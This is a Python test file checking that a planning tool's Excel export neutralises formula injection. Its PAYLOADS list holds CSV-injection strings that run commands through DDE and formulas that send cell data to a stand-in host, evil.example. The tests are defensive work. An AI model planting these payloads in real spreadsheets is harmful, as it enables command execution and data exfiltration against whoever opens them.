"""Formula injection: a plan whose every piece of text is an attack yields no formula cell."""

import re

import pytest
from openpyxl import load_workbook

from omplanner.export.xlsx import export_xlsx
from omplanner.export.xlsx.safe import FORMULA_TRIGGERS, clean_text
from omplanner.fileio import load_plan
from omplanner.model.base import PlanModel
from omplanner.paths import example_path

# The CSV-injection payloads OWASP lists, and their usual variants.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=DDE("cmd";"/C calc";"!A0")A0',
    'DDE ("cmd";"/C calc";"!A0")A0',
    "\t=1+2",
    "\r=1+2",
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "=SUM(A1:A9)",
    "@cmd",
    "+1",
    "=\x00\x07\x1fcontrol characters XML cannot carry",
]

SKIP_FIELDS = {"id", "format"}


def poison(model, payloads, counter):
    """Set every free-text field of the plan (not ids, references or enums) to a payload."""
    refs = getattr(type(model), "refs", {})
    for name, field in type(model).model_fields.items():
        value = getattr(model, name)
        if isinstance(value, PlanModel):
            poison(value, payloads, counter)
        elif isinstance(value, list) and value and isinstance(value[0], PlanModel):
            for child in value:
                poison(child, payloads, counter)
        elif name not in SKIP_FIELDS and name not in refs and field.annotation is str:
            setattr(model, name, payloads[counter[0] % len(payloads)])
            counter[0] += 1


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    plan = load_plan(example_path("distributor"))
    counter = [0]
    poison(plan, PAYLOADS, counter)
    assert counter[0] > 100
    path = tmp_path_factory.mktemp("inject") / "poisoned.xlsx"
    export_xlsx(plan, path)
    return plan, path


OUR_FORMULAS = {
    "End week",
    "Start",
    "End",
    "Critical path",
    "Slack (weeks)",
    "Latest start week",
    "Volume level",
    "Tractability",
    "Rank",
}
"""The columns the workbook computes; no other cell may be a formula."""


def test_no_user_text_becomes_a_formula(poisoned):
    plan, path = poisoned
    book = load_workbook(path)
    ids = {i.id for i in plan.roadmap}
    for ws in book.worksheets:
        headers = {}
        for table in ws.tables.values():
            for cell in ws[table.ref][0]:
                headers[cell.column] = cell.value
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type != "f":
                    continue
                where = f"{ws.title}!{cell.coordinate} {cell.value!r}"
                assert headers.get(cell.column) in OUR_FORMULAS or (ws.title, cell.coordinate) == ("Roadmap", "E4"), (
                    where
                )
                # The only text in them: ids (quoted, as Excel quotes) and our own words.
                for literal in re.findall(r'"((?:[^"]|"")*)"', cell.value):
                    assert literal in ("", "Yes") or literal.replace('""', '"') in ids, where


def test_dangerous_text_is_kept_verbatim_and_quote_prefixed(poisoned):
    plan, path = poisoned
    book = load_workbook(path)
    found: set[str] = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "s" and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {cell.value!r}"
                    found.add(cell.value)
    assert {clean_text(p) for p in PAYLOADS if p.startswith(FORMULA_TRIGGERS)} <= found
    assert plan.details.title in found


def test_names_built_from_hostile_use_case_names_are_valid(poisoned):
    plan, path = poisoned
    book = load_workbook(path)
    names = [t.displayName for ws in book.worksheets for t in ws.tables.values()]
    assert len({n.lower() for n in names}) == len(names)
    process_tables = list(book["Processes"].tables)
    assert len(process_tables) == len(plan.use_cases)
    for name in names:
        assert re.fullmatch(r"[A-Za-z_][A-Za-z0-9_.]*", name), name


def test_control_characters_line_breaks_and_duplicate_names_still_export(tmp_path):
    plan = load_plan(example_path("distributor"))
    plan.use_cases[0].name = "=\x07AP\ninvoice"
    plan.roles[0].name = "Clerk\n(AP)"
    plan.roles[1].name = "clerk (ap)"
    plan.details.title = "Plan\x00 title"
    book = load_workbook(export_xlsx(plan, tmp_path / "odd.xlsx"))
    assert book["Summary"]["A1"].value == "Plan title"
    headers = [c.value for c in book["Decision rights"][book["Decision rights"].tables["DecisionRights"].ref][0]]
    assert "Clerk (AP)" in headers and "clerk (ap) (2)" in headers
    charts = book["Diagnostic"]._charts
    assert len(charts) == len(plan.use_cases)
    names = [r["Use case"] for r in _rows(book["Summary"], "UseCases")]
    assert "=AP\ninvoice" in names


def _rows(ws, name):
    cells = ws[ws.tables[name].ref]
    headers = [c.value for c in cells[0]]
    return [dict(zip(headers, (c.value for c in row))) for row in cells[1:]]
